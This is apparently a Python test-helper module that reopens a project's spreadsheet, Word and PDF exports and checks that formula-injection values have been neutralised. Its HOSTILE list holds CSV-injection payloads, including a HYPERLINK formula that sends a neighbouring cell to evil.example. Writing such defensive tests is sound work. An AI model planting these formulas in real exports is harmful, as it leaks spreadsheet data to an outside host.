"""Reopening an export the way a spreadsheet would and finding every formula in it.

The hostile values are those of issue 10 (OWASP CSV injection): a live ``HYPERLINK`` that
leaks a neighbouring cell, and text starting with ``+ - @``, a tab or a carriage return.
Each inspector returns what it found wrong (an empty list is a clean file), so a test asserts
``== []`` and a failure names the cell or line.
"""

import io
import re
import subprocess
import tempfile
from pathlib import Path

import openpyxl

from linli.core.exports import DANGEROUS

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&H2,"点此查看")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
# What follows the dangerous start, to find each value in extracted text.
HOSTILE_CORES = ["=HYPERLINK(", "+1+1", "-2+3", "@SUM(A1)", "=1"]
_MONEY = re.compile(r"-[\d,]+\.\d\d")  # a negative amount printed by Linli, not people's text


def xlsx_problems(source) -> list[str]:
    """Every formula cell and every text cell starting with ``= + - @``, tab or CR."""
    if isinstance(source, bytes):
        source = io.BytesIO(source)
    book = openpyxl.load_workbook(source, data_only=False)
    found = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
                    found.append(f"{ws.title}!{cell.coordinate} starts a formula: {cell.value!r}")
    return found


def xlsx_texts(source) -> list[str]:
    if isinstance(source, bytes):
        source = io.BytesIO(source)
    book = openpyxl.load_workbook(source, data_only=False)
    return [
        cell.value
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def docx_lines(data: bytes) -> list[str]:
    """Every line of every paragraph and table cell (a line is a row when pasted)."""
    from docx import Document

    doc = Document(io.BytesIO(data))
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        for row in table.rows:
            for cell in row.cells:
                parts.extend(p.text for p in cell.paragraphs)
    return [line for part in parts for line in part.splitlines()]


def pdf_text(data: bytes) -> str:
    """The PDF's text as ``pdftotext`` (poppler-utils) extracts it."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.pdf"
        path.write_bytes(data)
        return subprocess.run(
            ["pdftotext", "-enc", "UTF-8", str(path), "-"],
            check=True,
            capture_output=True,
            text=True,
        ).stdout


def line_problems(lines) -> list[str]:
    """Lines that start a formula (a negative amount Linli printed itself is allowed)."""
    return [
        repr(line)
        for line in lines
        if line.startswith(DANGEROUS) and not _MONEY.fullmatch(line.strip())
    ]


def unquoted_cores(text: str, cores=HOSTILE_CORES) -> list[str]:
    """Each hostile value must be present and neutralised where it starts a line (a cell), so:
    found at least once with the ``'`` right before it (past any tab or CR the value started
    with), and never at the start of a line without it. Inside a line (``1. -2+3``) it is
    harmless."""
    found = []
    for core in cores:
        starts = [m.start() for m in re.finditer(re.escape(core), text)]
        if not starts:
            found.append(f"{core!r} missing")
        quoted = 0
        for at in starts:
            line = text[:at].rsplit("\n", 1)[-1].rsplit("\r", 1)[-1]
            before = line.rstrip(" \t")
            if before.endswith("'"):
                quoted += 1
            elif not before:
                found.append(f"{core!r} starts a line: {text[at : at + 20]!r}")
        if starts and not quoted:
            found.append(f"{core!r} never neutralised")
    return found
